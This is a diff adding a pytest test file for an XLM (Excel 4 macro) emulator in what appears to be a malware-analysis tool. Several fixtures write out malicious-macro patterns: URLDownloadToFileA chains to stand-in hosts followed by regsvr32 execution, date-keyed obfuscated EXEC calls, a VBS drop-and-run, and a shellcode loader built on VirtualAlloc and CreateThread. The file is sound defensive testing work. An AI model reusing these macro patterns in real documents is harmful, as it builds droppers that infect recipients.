@@ -1,0 +1,326 @@
+"""Excel 4 macros, evaluated: small sheets, and what they must show. Expected values are Excel's, written by hand."""
+
+from __future__ import annotations
+
+from datetime import datetime
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from emoscan.budget import Budget, LimitReached, Limits
+from emoscan.evaluate.core.world import DEFAULT_NOW
+from emoscan.evaluate.xlm.run import Program, Setting, evaluate
+from emoscan.evaluate.xlm.values import Array, Ref, shown
+from emoscan.model import Child, Fact, Yield
+from emoscan.parse.bundle import XlmWorkbook
+from emoscan.parse.workbook import Cell, Name, Sheet, Style, Workbook, from_a1
+
+Cells = dict[str, Any]
+LOOKS = (Style(), Style(size=20.0, color=3, horizontal=4, fill_pattern=1, fill_color=5))
+
+
+def sheet(name: str, cells: Cells, type_: str = "macro", **more: Any) -> Sheet:
+    made = []
+    for place, value in cells.items():
+        look = 0
+        if isinstance(value, tuple):
+            value, look = value
+        formula = value[1:] if isinstance(value, str) and value.startswith("=") else ""
+        made.append(Cell(*from_a1(place), None if formula else value, formula, look))
+    return Sheet(name, type_, cells=tuple(made), **more)  # type: ignore[arg-type]
+
+
+def book(cells: Cells, *others: Sheet, names: dict[str, str] | None = None, **more: Any) -> XlmWorkbook:
+    found = {"Auto_Open": "M!$A$1"} | (names or {})
+    return XlmWorkbook(Workbook((sheet("M", cells, **more), *others), tuple(Name(n, f) for n, f in found.items()), LOOKS))
+
+
+def run(bundle: XlmWorkbook, now: datetime = DEFAULT_NOW, **limits: Any) -> list[Yield]:
+    items: list[Yield] = []
+    evaluate(bundle, Budget(Limits(**limits)), items.append, "invoice.xls", now)
+    return items
+
+
+def facts(items: list[Yield], kind: str) -> list[str]:
+    return [item.value for item in items if isinstance(item, Fact) and item.kind == kind]
+
+
+def value(formula: str, *others: Sheet, cells: Cells | None = None) -> Any:
+    """What a formula gives in A1 of a macro sheet."""
+    program = Program(book({"A1": "=" + formula, "A2": "=RETURN()"} | (cells or {}), *others), Budget(Limits()), "invoice.xls", DEFAULT_NOW)
+    machine = program.run(Setting(DEFAULT_NOW), program.entries).machine
+    found = machine.cell(program.grids[0], 1, 1)
+    return found if not isinstance(found, (Array, Ref)) else repr(found)
+
+
+@pytest.mark.parametrize(
+    ("formula", "expected"),
+    [
+        ("1+2*3", 7.0),
+        ("2^3^2", 64.0),
+        ("-2^2", 4.0),
+        ("50%", 0.5),
+        ('"a"&1&TRUE', "a1TRUE"),
+        ('"10"+5', 15.0),
+        ('"a"="A"', True),
+        ('1<"a"', True),
+        ("CHAR(65)&CHAR(0.1+65.9)", "AB"),
+        ("CHAR(128)", "€"),
+        ('CODE("A")', 65.0),
+        ('MID("regsvr32",4,3)', "svr"),
+        ('LEFT("abc",2)&RIGHT("abc")', "abc"),
+        ('SUBSTITUTE("a-b-c","-","")', "abc"),
+        ('REPLACE("abcdef",2,3,"X")', "aXef"),
+        ('REPT("ab",3)', "ababab"),
+        ('CONCATENATE("a",1,"b")', "a1b"),
+        ('SEARCH("win","Windows")', 1.0),
+        ('ISNUMBER(SEARCH("32","x64"))', False),
+        ('LEN("abc")', 3.0),
+        ('UPPER("abc")&LOWER("ABC")&PROPER("ab cd")', "ABCabcAb Cd"),
+        ('TRIM("  a  b ")', "a b"),
+        ('EXACT("a","A")', False),
+        ('TEXT(0.5,"0.00")', "0.50"),
+        ('TEXT(44000,"yyyy-mm-dd")', "2020-06-18"),
+        ('VALUE("12.5")', 12.5),
+        ("INT(-1.5)", -2.0),
+        ("ROUND(2.5,0)", 3.0),
+        ("MOD(-1,3)", 2.0),
+        ("SUM(1,2,3)", 6.0),
+        ("SUM(C1:C3)", 6.0),
+        ("AVERAGE(C1:C3)", 2.0),
+        ('COUNTIF(C1:C3,">1")', 2.0),
+        ("INDEX(C1:C3,2)", 2.0),
+        ("INDEX({10,20;30,40},2,1)", 30.0),
+        ("MATCH(2,C1:C3,0)", 2.0),
+        ("VLOOKUP(2,C1:D3,2,FALSE)", "two"),
+        ("OFFSET(C1,1,1)", "two"),
+        ('INDIRECT("C"&3)', 3.0),
+        ('INDIRECT("R1C3",FALSE)', 1.0),
+        ('CHOOSE(2,"a","b")', "b"),
+        ('IF(1>2,"a","b")', "b"),
+        ('IFERROR(1/0,"e")', "e"),
+        ("ISERROR(1/0)", True),
+        ("AND(TRUE,1)", True),
+        ("OR(FALSE,0)", False),
+        ("NOT(FALSE)", True),
+        ('HEX2DEC("FF")', 255.0),
+        ("DEC2HEX(255)", "FF"),
+        ("DATE(2021,1,20)", 44216.0),
+        ("DAY(44216)", 20.0),
+        ("WEEKDAY(44216)", 4.0),
+        ("ROW()", 1.0),
+        ("ROWS(C1:C3)", 3.0),
+        ("ADDRESS(2,3)", "$C$2"),
+        ("GET.CELL(2,C3)", 3.0),
+        ("GET.CELL(8,E1)", 4.0),
+        ("GET.CELL(19,E1)", 20.0),
+        ("GET.CELL(24,E1)", 3.0),
+        ("GET.CELL(63,E1)", 5.0),
+        ("GET.CELL(17,E9)", 5.0),
+        ("GET.CELL(6,F1)", "=1+1"),
+        ("GET.FORMULA(F1)", "=1+1"),
+        ("GET.WORKSPACE(19)", True),
+        ("GET.WINDOW(7)", False),
+        ("GET.DOCUMENT(88)", "invoice.xls"),
+        ("REFTEXT(C1)", "M!R1C3"),
+        ('EVALUATE("1+1")', 2.0),
+        ("LEFT(GET.WORKSPACE(1),7)", "Windows"),
+        ("Data!A1", "hidden"),
+        ("Data!B1", 12.0),
+    ],
+)  # fmt: skip
+def test_formulas(formula: str, expected: Any) -> None:
+    cells: Cells = {"C1": 1.0, "C2": 2.0, "C3": 3.0, "D1": "one", "D2": "two", "D3": "three", "E1": ("x", 1), "F1": "=1+1"}
+    bundle = book(
+        {"A1": "=" + formula, "A2": "=RETURN()"} | cells,
+        sheet("Data", {"A1": "hidden", "B1": "=A2*2", "A2": 6.0}, "worksheet"),
+        row_heights={9: 5.1},
+    )
+    program = Program(bundle, Budget(Limits()), "invoice.xls", DEFAULT_NOW)
+    machine = program.run(Setting(DEFAULT_NOW), program.entries).machine
+    assert machine.cell(program.grids[0], 1, 1) == expected
+
+
+def test_chain_of_downloads() -> None:
+    """Each address is tried when the one before failed; all are named, in their order, and the program as well."""
+    cells = {
+        "A1": '=FORMULA("=CALL(""urlmon"",""URLDownloadToFileA"",""JJCCJJ"",0,""http://one.example.test/a/"",""..\\x.ocx"",0,0)",A3)',
+        "A2": '=FORMULA("=IF(A3<0,CALL(""urlmon"",""URLDownloadToFileA"",""JJCCJJ"",0,""http://two.example.test/b/"",""..\\x.ocx"",0,0))",A4)',
+        "A5": '=IF(A4<0,CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://three.example.test/c/","..\\x.ocx",0,0))',
+        "A6": "=IF(A5<0,CLOSE(0),)",
+        "A7": '=EXEC("C:\\Windows\\SysWow64\\regsvr32.exe ..\\x.ocx")',
+        "A8": "=RETURN()",
+    }
+    items = run(book(cells))
+    assert facts(items, "effect.download") == [f"http://{n}.example.test/{p}/" for n, p in (("one", "a"), ("two", "b"), ("three", "c"))]
+    assert facts(items, "effect.run") == ["C:\\Windows\\SysWow64\\regsvr32.exe ..\\x.ocx"]
+    assert facts(items, "xlm.entry") == ["Auto_Open"]
+    listing = next(item.data.decode() for item in items if isinstance(item, Child) and item.how == "simplified")
+    assert "M!A7 =EXEC(" in listing
+
+
+def test_registered_function() -> None:
+    cells = {
+        "A1": '=REGISTER("uRlMon","URLDownloadToFileA","JJCCBB","Byidert",1,9)',
+        "A2": '=Byidert(0,"http://192.0.2.1/"&B1&".dat","C:\\a.dll",0,0)',
+        "A3": "=HALT()",
+        "B1": 44694.5,
+    }
+    items = run(book(cells))
+    assert facts(items, "effect.download") == ["http://192.0.2.1/44694.5.dat"]
+    assert facts(items, "xlm.register") == ["uRlMon!URLDownloadToFileA"]
+
+
+def test_day_key() -> None:
+    """Characters are right on one day only; the day is found and named."""
+    command = "calc.exe"
+    joined = "&".join(f"CHAR({ord(c) - 7}+C1)" for c in command)
+    cells = {"A1": "=SET.VALUE(C1,DAY(NOW()))", "A2": f'=FORMULA("=EXE"&CHAR(60+C1)&"("""&{joined}&""")",A3)', "A4": "=HALT()"}
+    items = run(book(cells))
+    assert facts(items, "effect.run") == ["calc.exe"]
+    assert facts(items, "xlm.key") == ["day 7 of the month, Thursday"]
+
+
+def test_blocks_and_loops() -> None:
+    cells = {
+        "A1": '=SET.NAME("text","")',
+        "A2": '=FOR("i",1,3)',
+        "A3": "=IF(i=2)",
+        "A4": '=SET.NAME("text",text&"two ")',
+        "A5": "=ELSE()",
+        "A6": '=SET.NAME("text",text&i&" ")',
+        "A7": "=END.IF()",
+        "A8": "=NEXT()",
+        "A9": '=FOR.CELL("c",C1:C3,TRUE)',
+        "A10": '=SET.NAME("text",text&c)',
+        "A11": "=NEXT()",
+        "A12": '=SET.NAME("n",0)',
+        "A13": "=WHILE(n<3)",
+        "A14": '=SET.NAME("n",n+1)',
+        "A15": "=NEXT()",
+        "A16": '=EXEC("cmd /c "&text&n)',
+        "A17": "=GOTO(A19)",
+        "A18": '=EXEC("never")',
+        "A19": "=HALT()",
+        "C1": "x",
+        "C3": "y",
+    }
+    assert facts(run(book(cells)), "effect.run") == ["cmd /c 1 two 3 xy3"]
+
+
+def test_subroutines() -> None:
+    cells = {
+        "A1": "=RUN(B1)",
+        "A2": '=EXEC(Add("a","b"))',
+        "A3": "=HALT()",
+        "B1": '=SET.NAME("word","w")',
+        "B2": "=RETURN()",
+        "D1": '=ARGUMENT("one")',
+        "D2": '=ARGUMENT("two")',
+        "D3": "=RETURN(one&two&word)",
+    }
+    assert facts(run(book(cells, names={"Add": "M!$D$1"})), "effect.run") == ["abw"]
+
+
+def test_files_and_timers() -> None:
+    cells = {
+        "A1": '=FOPEN("C:\\Users\\Public\\a.vbs",3)',
+        "A2": '=FWRITELN(A1,"WScript.Echo 1")',
+        "A3": "=FCLOSE(A1)",
+        "A4": '=ON.TIME(NOW()+"00:00:02","later")',
+        "A5": "=HALT()",
+        "B1": '=EXEC("wscript C:\\Users\\Public\\a.vbs")',
+        "B2": "=HALT()",
+    }
+    items = run(book(cells, names={"later": "M!$B$1"}))
+    assert facts(items, "effect.run") == ["wscript C:\\Users\\Public\\a.vbs"]
+    assert facts(items, "effect.write") == ["C:\\Users\\Public\\a.vbs"]
+    assert any(isinstance(item, Child) and item.data == b"WScript.Echo 1\r\n" for item in items)
+
+
+def test_guards_are_turned() -> None:
+    cells = {"A1": '=IF(GET.WORKSPACE(2)="9.0",,CLOSE(FALSE))', "A2": '=EXEC("calc")', "A3": "=HALT()"}
+    items = run(book(cells))
+    assert [(item.value, item.confidence) for item in items if isinstance(item, Fact) and item.kind == "effect.run"] == [("calc", 0.8)]
+
+
+def test_waiting_ends() -> None:
+    cells = {
+        "A1": '=WHILE(ISERROR(FILES("C:\\nowhere\\a.txt")))',
+        "A2": "=WAIT(NOW()+1)",
+        "A3": "=NEXT()",
+        "A4": '=IF(ISERROR(FILES("C:\\nowhere\\a.txt")),GOTO(A1),)',
+        "A5": '=EXEC("calc")',
+        "A6": "=HALT()",
+    }
+    assert facts(run(book(cells)), "effect.run") == ["calc"]
+
+
+def test_nothing_leads_there() -> None:
+    bundle = XlmWorkbook(Workbook((sheet("M", {"C5": '=EXEC("calc")', "C6": "=HALT()"}),), (), LOOKS))
+    items = run(bundle)
+    assert [(item.value, item.confidence) for item in items if isinstance(item, Fact) and item.kind == "effect.run"] == [("calc", 0.5)]
+
+
+def test_shellcode() -> None:
+    """Bytes that are copied into memory and started come out as an artifact."""
+    cells = {
+        "A1": '=CALL("kernel32","VirtualAlloc","JJJJJ",0,4096,4096,64)',
+        "A2": '=CALL("kernel32","WriteProcessMemory","JJJCJJ",-1,A1,REPT(CHAR(144),60)&"shell",65,0)',
+        "A3": '=CALL("kernel32","CreateThread","JJJJJJJ",0,0,A1,0,0,0)',
+        "A4": "=HALT()",
+    }
+    items = run(book(cells))
+    assert facts(items, "effect.load")
+    assert any(isinstance(item, Child) and item.data.startswith(b"\x90" * 60 + b"shell") for item in items)
+
+
+def test_operations_end() -> None:
+    cells = {"A1": '=SET.NAME("n",1)', "A2": '=SET.NAME("n",n+1)', "A3": "=GOTO(A2)"}
+    with pytest.raises(LimitReached):
+        run(book(cells), operations=20_000)
+
+
+WORDS = st.sampled_from(
+    'A1 B2 $C$3 A1:B2 M!A1 x 1 2.5 "a" TRUE {1,2} R1C1 R[1]C Nobody!A1 #REF!'.split()
+    + "CHAR MID RUN GOTO FORMULA IF WHILE NEXT FOR SET.NAME EXEC CALL REGISTER INDEX OFFSET INDIRECT GET.CELL SELECT FOPEN FWRITE RETURN HALT".split()
+)  # fmt: skip
+
+
+@st.composite
+def formula(draw: st.DrawFn) -> str:
+    """Something like a formula, often a broken one."""
+    return "=" + "".join(draw(st.lists(st.one_of(WORDS, st.sampled_from(list("()+-*/&,=<> ^:%"))), min_size=1, max_size=12)))
+
+
+@st.composite
+def calls(draw: st.DrawFn) -> str:
+    head = draw(st.sampled_from(sorted(__import__("emoscan.evaluate.xlm.library", fromlist=["x"]).FUNCTIONS) or ["EXEC"]))
+    arguments = draw(
+        st.lists(st.sampled_from(["A1", '"B2"', "1", '"text"', "-1", "A1:B3", "", "{1,2;3,4}", "1/0", "CHAR(65)", "1E+300"]), max_size=6)
+    )
+    return f"={head}({','.join(arguments)})"
+
+
+@settings(max_examples=120, deadline=None)
+@given(
+    st.lists(st.one_of(formula(), calls(), st.floats(allow_nan=False, allow_infinity=False), st.text(max_size=5)), min_size=1, max_size=12)
+)
+def test_any_sheet(lines: list[Any]) -> None:
+    """No sheet raises anything but a limit, and all show the same twice."""
+    bundle = book({f"{'AB'[n % 2]}{n // 2 + 1}": line for n, line in enumerate(lines) if line != ""}, names={"x": "M!$B$1"})
+    results = []
+    for _ in range(2):
+        items: list[Yield] = []
+        try:
+            evaluate(bundle, Budget(Limits(operations=100_000)), items.append)
+        except LimitReached as limit:
+            items.append(Fact("limit", limit.name))
+        results.append(items)
+    assert results[0] == results[1]
+
+
+def test_shown() -> None:
+    assert [shown(v) for v in (1.0, 'a"b', True, None, 0.1)] == ["1", '"a""b"', "TRUE", "", "0.1"]
